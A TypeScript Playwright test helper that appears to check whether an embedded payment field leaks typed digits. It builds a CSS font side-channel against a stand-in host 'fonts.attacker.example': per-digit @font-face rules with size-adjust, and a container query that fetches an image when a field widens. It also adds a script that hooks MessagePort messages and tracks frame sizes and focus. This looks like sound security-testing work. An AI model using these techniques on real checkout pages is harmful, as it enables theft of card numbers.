import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';

/** Where the attacker's fonts are: a host that the browser believes in. */
export const attackersHost = 'https://fonts.attacker.example';

/** Answers for that host any sheet and any face, and keeps what was asked for. */
export async function attackersServer(context: BrowserContext): Promise<readonly string[]> {
  const asked: string[] = [];
  await context.route(`${attackersHost}/**`, async (route) => {
    const { pathname } = new URL(route.request().url());
    asked.push(pathname);
    const sheet = pathname === '/digits.css';
    await route.fulfill({
      headers: { 'Access-Control-Allow-Origin': '*', 'Cache-Control': 'no-store' },
      contentType: sheet ? 'text/css' : 'font/ttf',
      body: sheet ? digitsSheet : face,
    });
  });
  return asked;
}

/** Its digits are as wide as one another; `size-adjust` by digit is what would tell them apart. */
const face = readFileSync('/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf');
const digits = [...'0123456789'];

/** A face for each digit, each of another size, and rules that ask for an image where a field has grown. */
const digitsSheet = `${digits
  .map(
    (digit) =>
      `@font-face { font-family: Digits; src: url(${attackersHost}/digit-${digit}.ttf); unicode-range: U+3${digit}; size-adjust: ${100 + 10 * Number(digit)}%; ascent-override: ${100 + 20 * Number(digit)}% }`,
  )
  .join('\n')}
.Input, .InputElement { field-sizing: content; width: auto; font-family: Digits !important }
.p-Input { container-type: inline-size }
@container (min-width: 100px) { .p-Input-input { background: url(${attackersHost}/wide.png) } }`;

/** The same by faces of the machine, for a page without a server. */
export const localDigits = digits.map((digit) => ({
  family: 'Digits',
  src: 'local("DejaVu Sans"), local("Arial"), local("Liberation Sans")',
  unicodeRange: `U+3${digit}`,
  sizeAdjust: `${100 + 10 * Number(digit)}%`,
}));

/**
 * What a page can see of an element without breaking into its frame, in the order in which it comes: messages, events,
 * sizes, scrolling, focus, classes, frames, and how often the browser tells of resources.
 */
export const watching = `
const trace = [];
const see = (what, value) => trace.push(what + ' ' + JSON.stringify(value));
const plain = (value) => JSON.parse(JSON.stringify(value ?? null, (key, inner) =>
  ['id', 'callId', 'participantId'].includes(key) ? undefined : inner));
addEventListener('message', ({ data }) => see('message', plain(data)));
const channel = MessagePort.prototype.addEventListener;
MessagePort.prototype.addEventListener = function (name, listener, ...more) {
  return channel.call(this, name, (event) => { see('port', plain(event.data)); return listener.call(this, event); }, ...more);
};
function watchElement(element) {
  for (const name of ['ready', 'change', 'focus', 'blur', 'escape', 'carddetailschange', 'loaderror'])
    element.on(name, (event) => see('event ' + name, plain(event)));
}
const place = document.getElementById('element');
new ResizeObserver(() => see('size', [place.clientWidth, place.clientHeight, place.scrollWidth, place.scrollHeight])).observe(place);
const scroller = document.getElementById('scroller');
document.addEventListener('selectionchange', () => see('selection', String(getSelection())));
document.addEventListener('focusin', () => see('focusin', document.activeElement.tagName));
new MutationObserver((changes) => changes.forEach(({ target, attributeName }) =>
  see('attribute', [target.tagName, attributeName, target.getAttribute(attributeName)])))
  .observe(place, { attributes: true, subtree: true, attributeFilter: ['class', 'style'] });
/** What does not tell of itself, asked after each key. */
function look() {
  const frames = [...document.querySelectorAll('iframe')];
  see('look', {
    frames: [window.length, ...frames.map((frame) => frame.contentWindow.length)],
    heights: frames.map((frame) => [frame.offsetHeight, frame.getBoundingClientRect().width]),
    active: document.activeElement.tagName,
    resources: performance.getEntriesByType('resource').length,
    scrolled: [scrollX, scrollY, scroller.scrollLeft, scroller.scrollTop],
    history: history.length,
  });
}`;

/** The page's trace since the last time. */
export async function takeTrace(page: Page): Promise<readonly string[]> {
  // What a key leads to has come to rest: two frames are drawn, and messages have been answered.
  await page.evaluate(
    () =>
      new Promise((resolve) =>
        requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 25))),
      ),
  );
  // Which of two tasks of one key comes first is the browser's.
  return page.evaluate('look(); trace.splice(0).sort()');
}
